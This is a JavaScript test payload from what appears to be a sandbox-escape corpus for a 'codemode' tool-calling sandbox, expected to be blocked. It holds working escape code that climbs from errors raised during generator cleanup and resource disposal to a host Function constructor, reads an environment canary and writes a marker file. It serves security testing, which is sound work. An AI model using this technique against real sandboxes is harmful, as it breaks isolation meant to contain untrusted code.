// @name    finally blocks, generator return() and disposal hooks that overflow the stack or call tools while being closed
// @family  explicit-resource-management
// @ref     vm2 2026 advisories (SuppressedError sanitization); generic (cleanup code run by the engine)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const check = (e) => { out = out || probe(e); try { out = out || probe(e && e.error) || probe(e && e.suppressed); } catch {} };
const overflow = () => { const f = () => f(); f(); };
function* gen() { try { yield codemode.demo.echo({ g: 1 }); yield 2; } finally { overflow(); } }
try { for (const p of gen()) { check(await p); break; } } catch (e) { check(e); }
async function* agen() { try { yield await codemode.demo.echo({ g: 2 }); } finally { await codemode.demo.echo({ g: 3 }); overflow(); } }
try { for await (const v of agen()) { check(v); break; } } catch (e) { check(e); }
const it = gen();
try { it.next(); it.throw(new Error("into the generator")); } catch (e) { check(e); }
if (typeof Symbol.dispose === "symbol") {
  try { Function("o", "{ using x = o; }")({ [Symbol.dispose]: overflow }); } catch (e) { check(e); }
}
if (typeof Symbol.asyncDispose === "symbol") {
  try { await Function("o", "return (async () => { await using x = o; })()")({ async [Symbol.asyncDispose]() { overflow(); } }); } catch (e) { check(e); }
}
if (typeof SuppressedError === "function") {
  try { throw new SuppressedError(new Error("a"), new RangeError("b"), "m"); } catch (e) { check(e); }
}
return out || "blocked";
